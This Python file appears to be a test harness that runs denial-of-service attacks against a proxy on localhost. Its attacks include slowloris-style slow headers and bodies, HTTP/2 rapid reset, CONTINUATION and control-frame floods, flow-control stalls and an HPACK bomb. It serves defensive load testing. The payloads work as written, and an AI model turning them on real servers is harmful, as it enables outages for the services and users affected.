"""Clients that mean ill, for hostile.py: one attack for some seconds, from a process of its
own.

    attacks.py NAME PORT SECONDS

Each attack is a number of connections. What it opens with is sent at once, what it goes on with in
each beat, as far as the peer takes it; a connection that the peer ends is opened again. In the end
it prints as JSON how many were opened, how many octets went out, and how the peer ended how many.
"""

import collections
import contextlib
import itertools
import json
import os
import socket
import sys
import time
from typing import Callable, NamedTuple

from h2_wire import *

BEAT_SECONDS = 0.02
# Some begin with hundreds of requests at once. What that costs is no more than what they are worth,
# some 30 ms, and over before the measuring begins.
SETTLE_BEATS = 20
KEPT = 64 * 1024
GREETING = PREFACE + settings()
UPLOAD = b"POST /digest HTTP/1.1\r\nHost: a\r\n"
# Literal fields, so that no table has to be kept.
LITERAL_GET = b"\x82\x86\x04\x08/healthz\x01\x04test"
LITERAL_POST = b"\x83\x86\x04\x07/digest\x01\x04test"
LITERAL_BYTES = b"\x82\x86\x04\x0e/bytes/4000000\x01\x04test"
# An entry of the table as large as it may be, and then again and again one octet that stands for
# it.
LARGE_ENTRY = b"\x40\x01a\x7f\xa1\x1e" + 4000 * b"v"
BOMB = 8_000 * b"\xbe"


class Attack(NamedTuple):
    connections: int
    # What a connection begins with; what it sends in each beat, by the number of the beat.
    opens: bytes
    goes_on: Callable[[int], bytes] = lambda beat: b""
    reads: bool = True
    # Beats between two pieces.
    every: int = 1


def request(stream, block, flags=WHOLE):
    return frame(HEADERS, flags, stream, block)


def streams(block, flags, count=100):
    return b"".join(request(2 * number + 1, block, flags) for number in range(count))


def reset_again(beat, count=40):
    numbers = (2 * (beat * count + number) + 1 for number in range(count))
    return b"".join(request(number, LITERAL_GET) + reset(number) for number in numbers)


def flood(of, count=200):
    """The same frames in each beat."""
    octets = of * count
    return lambda beat: octets


def large_head(beat):
    return b"GET / HTTP/1.1\r\nHost: a\r\n" + b"".join(b"X-%d: y\r\n" % n for n in range(1000))


ATTACKS = {
    "slow heads, 1": Attack(300, b"GET / HTTP/1.1\r\nX: ", lambda beat: b"x", every=5),
    "slow prefaces, 2": Attack(
        300, PREFACE[:4], lambda beat: PREFACE[4 + beat : 5 + beat], every=20
    ),
    "slow heads, 2": Attack(
        300, GREETING + request(1, LITERAL_GET + b"\x00\x01a\x7f\xa1\x1e", END_STREAM),
        lambda beat: continuation(b"v", flags=0), every=10,
    ),
    "half heads, 2": Attack(300, GREETING + request(1, LITERAL_GET, END_STREAM)),
    "slow bodies, 1": Attack(100, UPLOAD + b"Content-Length: 10000\r\n\r\n" + bytes(100)),
    "slow bodies, 2": Attack(3, GREETING + streams(LITERAL_POST, END_HEADERS)),
    "dripped bodies, 1": Attack(
        100, UPLOAD + b"Content-Length: 10000\r\n\r\n", lambda beat: b"x", every=20
    ),
    "slow readers, 1": Attack(
        100, b"GET /bytes/40000000 HTTP/1.1\r\nHost: a\r\n\r\n", reads=False
    ),
    "slow readers, 2": Attack(
        5, GREETING + window(0, 1 << 30) + streams(LITERAL_BYTES, WHOLE), reads=False
    ),
    "stalled windows, 2": Attack(
        5, PREFACE + settings((INITIAL_WINDOW, 0)) + streams(LITERAL_BYTES, WHOLE)
    ),
    "windows of one octet, 2": Attack(
        5, PREFACE + settings((INITIAL_WINDOW, 1)) + streams(LITERAL_BYTES, WHOLE),
        lambda beat: b"".join(window(2 * number + 1, 1) for number in range(100)),
    ),
    "endless chunks, 1": Attack(
        3, UPLOAD + b"Transfer-Encoding: chunked\r\n\r\n", flood(b"1\r\nx\r\n", 2000)
    ),
    "header flood, 1": Attack(10, b"", large_head),
    "rapid reset, 2": Attack(10, GREETING, reset_again),
    "CONTINUATION flood, 2": Attack(
        10, GREETING + request(1, LITERAL_GET, END_STREAM),
        flood(continuation(b"\x00\x01a\x01b", flags=0)),
    ),
    "empty CONTINUATION flood, 2": Attack(
        10, GREETING + request(1, LITERAL_GET, END_STREAM), flood(continuation(b"", flags=0))
    ),
    "PING flood unread, 2": Attack(10, GREETING, flood(ping()), reads=False),
    "SETTINGS flood unread, 2": Attack(
        10, GREETING, flood(settings((INITIAL_WINDOW, 9))), reads=False
    ),
    "empty DATA flood, 2": Attack(
        10, GREETING + request(1, LITERAL_POST, END_HEADERS), flood(data(payload=b"", flags=0))
    ),
    "WINDOW_UPDATE flood, 2": Attack(10, GREETING, flood(window(0, 1))),
    "unknown frames, 2": Attack(10, GREETING, flood(frame(0x16, 0, 1, bytes(8)))),
    "HPACK bomb, 2": Attack(
        10, GREETING + request(1, LITERAL_GET + LARGE_ENTRY),
        lambda beat: request(2 * beat + 3, LITERAL_GET + BOMB),
    ),
}


class Link:
    """One connection of an attack."""

    def __init__(self, port, attack):
        self.attack = attack
        self.received = b""
        self.sent = 0
        self.beats = itertools.count()
        self.socket = socket.create_connection(("127.0.0.1", port), 5)
        self.socket.setblocking(False)
        self.waiting = attack.opens

    def beat(self):
        """Goes on; returns how the peer has ended it, if it has."""
        try:
            if not self.waiting:
                self.waiting = self.attack.goes_on(next(self.beats))
            if self.waiting:
                sent = self.socket.send(self.waiting)
                self.waiting = self.waiting[sent:]
                self.sent += sent
        except BlockingIOError:
            pass
        except OSError:
            self._read()
            return self._end()
        return self._end() if self.attack.reads and self._read() else None

    def _read(self):
        """Whether that was all."""
        with contextlib.suppress(BlockingIOError):
            try:
                while piece := self.socket.recv(KEPT):
                    self.received = (self.received + piece)[-KEPT:]
                return True
            except ConnectionError:
                return True
        return False

    def _end(self):
        self.socket.close()
        if self.received.startswith(b"HTTP/1.1 "):
            return self.received[9:12].decode()
        # A GOAWAY without debug data or with some, among the last frames.
        at = self.received.rfind(b"\x07\x00\x00\x00\x00\x00")
        code = self.received[at + 10 : at + 14]
        has_code = at > 0 and len(code) == 4
        return f"GOAWAY {CODES[int.from_bytes(code, 'big')]}" if has_code else "closed"


def run(attack, port, seconds):
    ends = collections.Counter()
    opened = sent = 0
    links = []
    end = time.monotonic() + SETTLE_BEATS * BEAT_SECONDS + seconds
    for beat in itertools.count():
        began = time.monotonic()
        if began > end:
            break
        if beat == SETTLE_BEATS:
            print("begun", flush=True)
        while len(links) < attack.connections:
            links.append(Link(port, attack))
            opened += 1
        if beat % attack.every == 0:
            for link in list(links):
                if how := link.beat():
                    ends[how] += 1
                    sent += link.sent
                    links.remove(link)
        time.sleep(max(BEAT_SECONDS - (time.monotonic() - began), 0))
    open_still = len(links)
    for link in links:
        sent += link.sent
        link.socket.close()
    return {"opened": opened, "sent": sent, "ends": ends, "open": open_still}


if __name__ == "__main__":
    # The machine is that of the proxy: what is measured is the work that it makes, not that of
    # making it.
    os.nice(10)
    name, port, seconds = sys.argv[1:]
    print("done", json.dumps(run(ATTACKS[name], int(port), float(seconds))), flush=True)
